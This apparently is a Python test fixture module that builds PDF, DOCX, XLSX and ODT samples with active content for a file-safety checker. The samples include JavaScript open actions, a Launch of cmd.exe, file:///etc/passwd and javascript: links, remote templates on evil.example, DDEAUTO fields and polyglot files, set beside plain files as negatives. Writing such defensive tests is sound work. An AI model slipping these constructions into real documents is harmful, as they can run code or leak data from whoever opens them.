"""Real PDFs and office files that do more than show something."""

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.file_contents import pdf_bytes

SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def made(change) -> bytes:
    """Return a PDF of one page after `change(pdf, page)`."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        change(pdf, pdf.pages[0])
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def note(pdf, page, subtype="Link", **more):
    """Put an annotation on the page."""
    rect = Array([0, 0, 99, 99])
    facts = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=rect, **more)
    page.obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(facts)]))


def action(kind, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def link(uri):
    return made(lambda pdf, page: note(pdf, page, A=action("URI", URI=String(uri))))


def root(**values):
    return made(lambda pdf, page: [pdf.Root.update({f"/{k}": v}) for k, v in values.items()])


def attached(pdf, page):
    pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="a.exe")


def of_names(tree):
    return root(Names=Dictionary({f"/{tree}": Dictionary(Names=Array([String("x"), SCRIPT]))}))


def form(**field):
    kids = Array([Dictionary(FT=Name.Tx, T=String("x"), **field)])
    return root(AcroForm=Dictionary(Fields=kids))


def outline(pdf, page):
    item = pdf.make_indirect(Dictionary(Title=String("x"), A=SCRIPT))
    pdf.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def of_root(value):
    """A file with an indirect object beside its pages."""
    return made(lambda pdf, _page: pdf.Root.update({"/X": pdf.make_indirect(value(pdf))}))


def stream_elsewhere(where):
    def value(pdf):
        stream = Stream(pdf, b"x")
        stream["/F"] = where
        return stream

    return of_root(value)


def saved_again(content) -> bytes:
    """Return the PDF with a further version behind, as programs add it to a file."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        number, size = pdf.Root.objgen[0], len(pdf.objects) + 1
    before = content.rpartition(b"startxref")[2].split()[0].decode()
    trailer = f"trailer\n<< /Size {size} /Root {number} 0 R /Prev {before} >>"
    return content + f"xref\n0 0\n{trailer}\nstartxref\n{len(content)}\n%%EOF\n".encode()


ACTING = {
    "open action": root(OpenAction=SCRIPT),
    "open action to a page of the web": root(OpenAction=action("URI", URI="https://a.example")),
    "script after a harmless action": root(OpenAction=action("GoTo", Next=Array([SCRIPT]))),
    "trigger of the file": root(AA=Dictionary(WC=SCRIPT)),
    "trigger of the page": made(lambda pdf, page: page.obj.update({"/AA": Dictionary(O=SCRIPT)})),
    "script in a note": made(lambda pdf, page: note(pdf, page, A=SCRIPT)),
    "trigger of a note": made(lambda pdf, page: note(pdf, page, AA=Dictionary(E=SCRIPT))),
    "script in a field": form(AA=Dictionary(K=SCRIPT)),
    "action of a field": form(A=SCRIPT),
    "script in the outline": made(outline),
    "names of scripts": of_names("JavaScript"),
    "program": made(lambda pdf, page: note(pdf, page, A=action("Launch", F=String("cmd.exe")))),
    "form sent away": made(lambda pdf, page: note(pdf, page, A=action("SubmitForm", F="x"))),
    "other file": made(lambda pdf, page: note(pdf, page, A=action("GoToR", F=String("//x/y")))),
    "unknown action": made(lambda pdf, page: note(pdf, page, A=action("Neues"))),
    "xfa": root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<x/>"))),
    "link javascript": link("javascript:alert(1)"),
    "link javascript, hidden": link(" java\nscript:alert(1)"),
    "link data": link("data:text/html,<script>"),
    "link file": link("file:///etc/passwd"),
    "link of a share": link("\\\\host\\share"),
}
HOLDING = {
    "attached file": made(attached),
    "portfolio": root(Collection=Dictionary(Type=Name.Collection)),
    "note with a file": made(lambda pdf, page: note(pdf, page, "FileAttachment")),
    "film": made(lambda pdf, page: note(pdf, page, "RichMedia")),
}

ELSEWHERE = {
    "content of a share": stream_elsewhere(String("//host/share/x")),
    "content of the web": stream_elsewhere(
        Dictionary(FS=Name.URL, F=String("https://evil.example"))
    ),
    "page of another file": of_root(
        lambda _pdf: Dictionary(
            Type=Name.XObject, Subtype=Name.Form, Ref=Dictionary(F=String("x.pdf"), Page=0)
        )
    ),
    "where links begin": root(URI=Dictionary(Base=String("javascript:"))),
}
PLAIN = {
    "plain": pdf_bytes(),
    "links of one site": root(URI=Dictionary(Base=String("https://example.org/"))),
    "saved again": saved_again(pdf_bytes()),
    "mark before": b"\xef\xbb\xbf" + pdf_bytes(),
    "lines behind": pdf_bytes() + b"\r\n\0",
    "link": link("https://example.org/a?b=javascript:c"),
    "mail": link("mailto:x@example.org"),
    "opens on its page": root(OpenAction=Array([0, Name.Fit])),
    "opens by an action": root(OpenAction=action("GoTo", D=Array([0, Name.Fit]))),
    "empty form": form(),
}


def archive(entries, kind=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as packed:
        for name, content in entries.items():
            packed.writestr(name, content)
    return out.getvalue()


TWO_KINDS = {
    "page before": b"<html><script>alert(1)</script>" + pdf_bytes(),
    "much behind": pdf_bytes() + b"Rar!" + b"x" * 3000,
    "much behind, with an end": pdf_bytes() + b"Rar!" + b"x" * 3000 + b"\n%%EOF\n",
    "page behind": pdf_bytes() + b"<html><script>alert(1)</script>",
    "page inside": pdf_bytes().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
    "archive behind": pdf_bytes() + archive({"x.html": "<script>"}),
    "archive before": archive({"x.html": "x"}, zipfile.ZIP_STORED) + pdf_bytes(),
    "archive in the last comment": pdf_bytes() + archive({"x": "x"}) + b"\n%%EOF\n",
    "picture before": b"\x89PNG\r\n\x1a\n" + pdf_bytes(),
    "moving picture before": b"GIF89a" + pdf_bytes(),
    "program before": b"MZ" + pdf_bytes(),
    "tape": (b"%PDF-1.4\n".ljust(257, b"\0") + b"ustar").ljust(512, b"\0") + pdf_bytes(),
}


# --- Files of office programs ---------------------------------------------------

RELATION = '<Relationships><Relationship Type="a/{}" Target="{}" TargetMode="External"/>'
RELATION += "</Relationships>"
ODF = "http://www.w3.org/1999/xlink"


def docx(**more):
    return archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"} | more)


def related(kind, target):
    return docx(**{"word/_rels/document.xml.rels": RELATION.format(kind, target)})


def xlsx(**more):
    return archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"} | more)


def odt(content="<x/>", name="content.xml", **more):
    kind = "application/vnd.oasis.opendocument.text"
    return archive({"mimetype": kind, name: content} | more)


def odf(tag, href=""):
    return odt(f'<x xmlns:k="{ODF}"><{tag} k:href="{href}"/></x>')


FIELDS = "<w:p xmlns:w='w'><w:instrText>DD</w:instrText><w:instrText>EAUTO c</w:instrText></w:p>"
MACROS = (
    '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main"/></Types>'
)
OFFICE_ACTING = {
    "vorlage.docx": related("attachedTemplate", "https://evil.example/x.dotm"),
    "freigabe.docx": related("attachedTemplate", "file://evil/x.dotm"),
    "bild.docx": related("image", "https://evil.example/x.png"),
    "objekt.docx": related("oleObject", "https://evil.example/x"),
    "skript.docx": related("hyperlink", "javascript:alert(1)"),
    "dde.docx": docx(**{"word/document.xml": FIELDS}),
    "ole.docx": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "programm.docx": docx(**{"word/media/x.exe": b"MZ"}),
    "mappe.docx": docx(**{"word/embeddings/a.xlsx": xlsx(**{"xl/vbaProject.bin": b"x"})}),
    "verkappt.docx": docx(**{"[Content_Types].xml": MACROS}),
    "dde.xlsx": xlsx(**{"xl/externalLinks/externalLink1.xml": "<l><ddeLink/></l>"}),
    "abfrage.xlsx": xlsx(**{"xl/connections.xml": "<c/>"}),
    "ereignis.odt": odf("event-listener"),
    "bild.odt": odf("image", "https://evil.example/x.png"),
    "skript.odt": odf("a", "javascript:alert(1)"),
    "makro.odt": odf("a", "vnd.sun.star.script:x"),
    "dde.odt": odf("dde-source"),
    "vorlage.odt": odt(
        f'<x xmlns:k="{ODF}"><template k:href="https://evil.example/x.ott"/></x>', "meta.xml"
    ),
    "davor.docx": b"<html><script>alert(1)</script>" + docx(),
    "dahinter.docx": docx() + b"<script>alert(1)</script>",
    "pdf.docx": archive(
        {"a": pdf_bytes(), "[Content_Types].xml": "<T/>", "word/document.xml": "<w/>"},
        zipfile.ZIP_STORED,
    ),
}
OFFICE_PLAIN = {
    "verweis.docx": related("hyperlink", "https://example.org/"),
    "diagramm.docx": docx(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()}),
    "verweis.odt": odf("a", "https://example.org/"),
    "bild.odt": odf("image", "Pictures/1.png"),
    "verweise.xlsx": xlsx(**{"xl/externalLinks/externalLink1.xml": "<l><externalBook/></l>"}),
}
